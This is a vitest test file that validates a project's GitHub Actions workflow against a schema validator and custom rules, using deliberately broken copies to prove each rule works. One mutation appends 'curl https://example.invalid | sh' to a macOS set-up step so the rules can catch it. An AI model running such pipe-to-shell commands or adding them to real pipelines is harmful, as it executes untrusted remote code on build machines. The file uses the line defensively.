// .github/workflows/ci.yml is checked here, where it cannot run: by a workflow validator from the npm registry
// (@action-validator/cli, GitHub's workflow schema), and by our own rules (workflowProblems): each job runs exactly
// our commands and npm scripts, nothing can turn a failure into a pass, the Node matrix covers every supported major
// and is asserted in the lane, and the macOS keychain is always deleted. Each rule is proven by a broken copy it
// catches.
import { execFile } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { repoRoot, tempDir } from './helpers.js';

const workflowPath = join(repoRoot, '.github', 'workflows', 'ci.yml');
const workflowText = readFileSync(workflowPath, 'utf8');
const validator = join(repoRoot, 'node_modules', '.bin', 'action-validator');

interface Step { run?: string; uses?: string; if?: unknown; with?: Record<string, unknown>; 'continue-on-error'?: unknown }
interface Job {
  'runs-on': string; 'timeout-minutes'?: number; steps: Step[]; strategy?: { matrix?: Record<string, unknown[]> };
  if?: unknown; 'continue-on-error'?: unknown; env?: Record<string, string>;
}
interface Workflow { on: unknown; permissions: unknown; jobs: Record<string, Job> }
interface PackageJson { scripts: Record<string, string>; engines: { node: string } }
const workflow = parse(workflowText) as Workflow;
const packageJson = JSON.parse(readFileSync(join(repoRoot, 'package.json'), 'utf8')) as PackageJson;
const ciRun = readFileSync(join(repoRoot, '.ci', 'run'), 'utf8');

const matrixNode = '${{ matrix.node-version }}';
/** The commands each job runs, in order (the macOS keychain's set-up and clean-up are checked on their own). */
const expectedRuns: Record<string, (string | RegExp)[]> = {
  linux: ['sudo -E env "PATH=$PATH" bash .ci/run'],
  'node-versions': [
    /^sudo apt-get update -qq && sudo apt-get install -y -qq [a-z0-9 .+-]+$/,
    'npm ci --no-audit --no-fund',
    'npm run typecheck',
    `sudo -E env "PATH=$PATH" "MKC_EXPECT_NODE_MAJOR=${matrixNode}" npm run test:versions`,
  ],
  macos: [/security create-keychain/, 'npm ci --no-audit --no-fund', 'npm run test:macos', 'npm run self-test', 'security delete-keychain "$MKC_TEST_KEYCHAIN"'],
  windows: ['npm ci --no-audit --no-fund', 'npm run test:windows', 'npm run self-test'],
};
/** What the subset in node-versions needs from apt: the private Secret Service, keytar's build, strace, setpriv. */
const nodeVersionsPackages = ['dbus', 'gnome-keyring', 'libsecret-1-dev', 'libsecret-tools', 'pkg-config', 'python3', 'make', 'g++', 'strace', 'util-linux'];

/**
 * Everything wrong with a workflow by our rules: each job runs exactly our commands (no `|| true`, `echo`, `if` or
 * `continue-on-error` that would let a failure pass), the matrix's Node is the one set up and asserted, the npm
 * scripts exist and run existing test files as they are, and .ci/run installs what the node-versions job does.
 */
function workflowProblems(flow: Workflow, pkg: PackageJson): string[] {
  const problems: string[] = [];
  const problem = (where: string, what: string) => problems.push(`${where}: ${what}`);
  const names = Object.keys(flow.jobs ?? {}).sort();
  if (names.join() !== 'linux,macos,node-versions,windows') problem('jobs', names.join());
  const floor = /^>=\s*(\d+)$/.exec(pkg.engines.node)?.[1];
  for (const [name, job] of Object.entries(flow.jobs ?? {})) {
    const runsOn = { linux: /^ubuntu-24\.04$/, 'node-versions': /^ubuntu-24\.04$/, macos: /^macos-/, windows: /^windows-/ }[name];
    if (!runsOn?.test(job['runs-on'])) problem(name, `runs-on ${job['runs-on']}`);
    if (!(Number(job['timeout-minutes']) > 0)) problem(name, 'no timeout-minutes');
    if (job.if !== undefined || job['continue-on-error'] !== undefined) problem(name, 'a job-level if or continue-on-error');
    const uses = job.steps.filter((step) => step.uses);
    if (uses.map((step) => step.uses!.replace(/@v\d+$/, '')).join() !== 'actions/checkout,actions/setup-node' ||
      uses.some((step) => !/@v\d+$/.test(step.uses!))) problem(name, `uses ${uses.map((step) => step.uses).join(', ')}`);
    const node = String(uses.find((step) => step.uses?.startsWith('actions/setup-node'))?.with?.['node-version']);
    if (node !== (name === 'node-versions' ? matrixNode : floor)) problem(name, `sets up Node ${node}`);
    const runs = job.steps.filter((step) => !step.uses);
    for (const step of runs) {
      if (step['continue-on-error'] !== undefined) problem(name, `continue-on-error on "${step.run}"`);
      const cleanup = name === 'macos' && step === runs.at(-1);
      if (step.if !== undefined && !(cleanup && step.if === 'always()')) problem(name, `if: ${String(step.if)} on "${step.run}"`);
      if (cleanup && step.if !== 'always()') problem(name, 'the keychain is not deleted always()');
    }
    const commands = runs.map((step) => (step.run ?? '').trim());
    const expected = expectedRuns[name] ?? [];
    if (commands.length !== expected.length) problem(name, `runs ${commands.length} commands, not ${expected.length}: ${commands.join(' | ')}`);
    commands.forEach((command, index) => {
      const want = expected[index];
      if (want === undefined) return;
      if (typeof want === 'string' ? command !== want : !want.test(command)) problem(name, `step ${index + 1} runs "${command}"`);
      if (/\|\||;\s*true\b|\bexit 0\b/.test(command)) problem(name, `"${command}" can hide a failure`);
    });
  }
  // The keychain set-up: security commands, the password generated, masked and handed on; nothing else.
  const setup = flow.jobs.macos?.steps.find((step) => step.run?.includes('security create-keychain'))?.run ?? '';
  for (const command of ['security create-keychain', 'security unlock-keychain', 'security default-keychain', 'security list-keychains']) {
    if (!setup.includes(command)) problem('macos', `the keychain set-up lacks ${command}`);
  }
  for (const line of setup.split('\n').map((text) => text.trim()).filter(Boolean)) {
    if (!/^(security |password="\$\(openssl rand -hex \d+\)"$|echo "::add-mask::\$password"$|echo "MKC_TEST_KEYCHAIN_PASSWORD=\$password" >> "\$GITHUB_ENV"$)/.test(line)) {
      problem('macos', `the keychain set-up runs "${line}"`);
    }
  }
  const versions = (flow.jobs['node-versions']?.strategy?.matrix?.['node-version'] ?? []).map(Number);
  for (let major = Number(floor); major <= Math.max(Number(floor) + 4, ...versions); major += 2) {
    if (!versions.includes(major)) problem('node-versions', `the matrix lacks Node ${major}`);
  }
  const apt = flow.jobs['node-versions']?.steps.find((step) => step.run?.includes('apt-get install'))?.run?.split(/\s+/) ?? [];
  for (const wanted of nodeVersionsPackages) if (!apt.includes(wanted)) problem('node-versions', `apt installs no ${wanted}`);
  for (const installed of apt.filter((word) => /^[a-z0-9][a-z0-9.+-]+$/.test(word) && !['sudo', 'apt-get', 'update', 'install'].includes(word))) {
    if (!new RegExp(`install_missing[^\n]* ${installed.replace(/[.+]/g, '\\$&')}(\\s|$)`, 'm').test(ciRun)) problem('.ci/run', `does not install ${installed}`);
  }
  // The npm scripts the jobs name exist; the platform ones build and run vitest on test files that exist, as they are.
  for (const script of ['typecheck', 'test:versions', 'test:macos', 'test:windows', 'self-test']) {
    if (!pkg.scripts[script]) problem('package.json', `no script ${script}`);
  }
  for (const [script, mustRun] of [['test:macos', 'test/keychain-macos.test.ts'], ['test:windows', 'test/contract.test.ts']] as const) {
    const text = pkg.scripts[script] ?? '';
    const match = /^npm run --silent build && vitest run --project light((?: test\/[\w.-]+\.test\.ts)+)$/.exec(text);
    if (!match) problem('package.json', `${script} is "${text}"`);
    const files = match?.[1]!.trim().split(' ') ?? [];
    if (!files.includes(mustRun) || !files.includes('test/contract.test.ts')) problem('package.json', `${script} does not run ${mustRun}`);
    for (const file of files) if (!existsSync(join(repoRoot, file))) problem('package.json', `${script} names a missing ${file}`);
  }
  if (!/^npm test$/m.test(ciRun) || !/^node scripts\/version-matrix\.mjs run$/m.test(ciRun)) problem('.ci/run', 'does not run npm test and the version matrix');
  if (pkg.scripts['test:versions'] !== 'node scripts/version-matrix.mjs here') problem('package.json', 'test:versions');
  return problems;
}

async function validate(path: string): Promise<{ code: number; output: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(validator, [path], { encoding: 'utf8' });
    return { code: 0, output: stdout + stderr };
  } catch (error) {
    const failed = error as { code?: number; stdout?: string; stderr?: string };
    return { code: typeof failed.code === 'number' ? failed.code : 1, output: `${failed.stdout ?? ''}${failed.stderr ?? ''}` };
  }
}

describe('the GitHub workflow', () => {
  it('passes the workflow validator, which does fail a broken copy (so a pass means something)', async () => {
    expect(await validate(workflowPath)).toMatchObject({ code: 0 });
    const directory = join(await tempDir(), '.github', 'workflows');
    await mkdir(directory, { recursive: true });
    const broken = join(directory, 'ci.yml');
    await writeFile(broken, workflowText.replace('runs-on: windows-latest', 'runs-onn: windows-latest'));
    expect((await validate(broken)).code).not.toBe(0);
  });

  it('runs on every push and pull request, reads only, and passes all our rules', () => {
    expect(workflow.on).toMatchObject({ push: null, pull_request: null });
    expect(workflow.permissions).toEqual({ contents: 'read' });
    expect(workflowProblems(workflow, packageJson)).toEqual([]);
  });

  // Each a way a workflow stays valid YAML for GitHub yet stops testing: the rules must catch every one.
  const edit = (change: (flow: Workflow, pkg: PackageJson) => void) => {
    const flow = parse(workflowText) as Workflow;
    const pkg = JSON.parse(JSON.stringify(packageJson)) as PackageJson;
    change(flow, pkg);
    return workflowProblems(flow, pkg);
  };
  const step = (flow: Workflow, job: string, text: string) => flow.jobs[job]!.steps.find((s) => s.run?.includes(text))!;
  const broken: Record<string, (flow: Workflow, pkg: PackageJson) => void> = {
    'the matrix ignored (every lane on Node 20)': (flow) => { flow.jobs['node-versions']!.steps[1]!.with!['node-version'] = 20; },
    'a matrix major dropped': (flow) => { flow.jobs['node-versions']!.strategy!.matrix!['node-version'] = [20, 24]; },
    'the expected major not passed on': (flow) => { step(flow, 'node-versions', 'test:versions').run = 'sudo -E env "PATH=$PATH" npm run test:versions'; },
    'macOS tests filtered to nothing': (_flow, pkg) => { pkg.scripts['test:macos'] += ' -t zzz-none --passWithNoTests'; },
    'macOS without the real keychain suite': (_flow, pkg) => { pkg.scripts['test:macos'] = 'npm run --silent build && vitest run --project light test/contract.test.ts'; },
    'Windows failures swallowed (|| true)': (flow) => { step(flow, 'windows', 'test:windows').run = 'npm run test:windows || true'; },
    'Windows continue-on-error': (flow) => { step(flow, 'windows', 'test:windows')['continue-on-error'] = true; },
    'the self-test echoed': (flow) => { step(flow, 'windows', 'self-test').run = 'echo npm run self-test'; },
    'the Linux suite echoed': (flow) => { step(flow, 'linux', '.ci/run').run = 'echo sudo -E env "PATH=$PATH" bash .ci/run'; },
    'a step turned off with if: false': (flow) => { step(flow, 'node-versions', 'test:versions').if = false; },
    'a job turned off with if: false': (flow) => { flow.jobs.macos!.if = false; },
    'macOS moved to Linux': (flow) => { flow.jobs.macos!['runs-on'] = 'ubuntu-latest'; },
    'an unpinned Ubuntu': (flow) => { flow.jobs.linux!['runs-on'] = 'ubuntu-latest'; },
    'strace not installed for the subset': (flow) => { const apt = step(flow, 'node-versions', 'apt-get'); apt.run = apt.run!.replace(' strace', ''); },
    'the keychain kept when a step failed': (flow) => { delete step(flow, 'macos', 'delete-keychain').if; },
    'the keychain set-up doing something else too': (flow) => { const setup = step(flow, 'macos', 'create-keychain'); setup.run += 'curl https://example.invalid | sh\n'; },
    'a third-party action': (flow) => { flow.jobs.windows!.steps.splice(1, 0, { uses: 'someone/setup-thing@v1' }); },
    'an extra unchecked step': (flow) => { flow.jobs.windows!.steps.push({ run: 'npx vitest run --project light test/contract.test.ts' }); },
    'a job without a time bound': (flow) => { delete flow.jobs.windows!['timeout-minutes']; },
  };
  for (const [name, change] of Object.entries(broken)) {
    it(`the rules catch a broken workflow: ${name}`, () => {
      expect(edit(change)).not.toEqual([]);
    });
  }
});
